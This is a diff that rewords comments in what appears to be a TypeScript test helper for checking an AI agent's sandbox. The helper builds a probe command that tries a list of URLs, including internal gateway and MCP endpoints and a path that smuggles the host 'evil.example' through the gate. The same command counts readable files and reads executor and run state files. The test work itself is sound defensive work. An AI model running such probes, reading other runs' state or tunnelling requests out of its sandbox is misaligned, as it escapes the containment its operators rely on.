@@ -1,4 +1,4 @@
-/** Where a hostile run tries to go. */
+/** URLs that a hostile run requests. */
 const TARGETS = [
   'http://example.com/',
   'https://example.com/',
@@ -8,7 +8,7 @@ const TARGETS = [
   'http://gate.internal/',
   'http://gate.internal/mcp',
   'http://gate.internal/gate/claude/v1/files',
-  // Its own gate takes its token, which leads to no other host.
+  // The run's own gate path accepts the run's token, which opens no other host.
   'http://gate.internal/gate/claude/v1/messages/count_tokens',
   'http://gate.internal/gate/claude//evil.example/v1/messages',
 ];
@@ -18,10 +18,10 @@ const asked = (url) => url.includes("/v1/messages") ? { method: "POST", headers,
 for (const url of process.argv.slice(1)) fetch(url, { ...asked(url), signal: AbortSignal.timeout(5000) }).then(
   (answer) => console.log("net", url, answer.status), () => console.log("net", url, "closed"))`.replaceAll('\n', ' ');
 
-/** A command line that tries to fetch URLs. */
+/** Builds a command line that requests URLs. */
 export const tryUrls = (urls: string[]) => `node -e '${FETCH}' ${urls.join(' ')}`;
 
-/** A command line that prints all it can find out. What it says of the network and the number of files it could read come first. */
+/** A command line that prints everything it can read. Network results and the number of readable files come first. */
 export const PROBE = [
   tryUrls(TARGETS),
   'echo files $(find / -xdev -type f -readable 2>/dev/null | wc -l)',
@@ -30,9 +30,9 @@ export const PROBE = [
   'cat /state/executor.json /state/runs/*/*.json 2>/dev/null',
 ].join('; ');
 
-/** How each URL answered: its HTTP status, or closed. */
+/** Returns how each URL answered: its HTTP status, or closed. */
 export const reachedIn = (said: string): Record<string, string> =>
   Object.fromEntries([...said.matchAll(/net (\S+) (\S+)/g)].map(([, url = '', how = '']) => [url, how]));
 
-/** What the probe found. */
+/** Parses the output of the probe. */
 export const probed = (said: string) => ({ readable: Number(/files (\d+)/.exec(said)?.[1]), reached: reachedIn(said) });
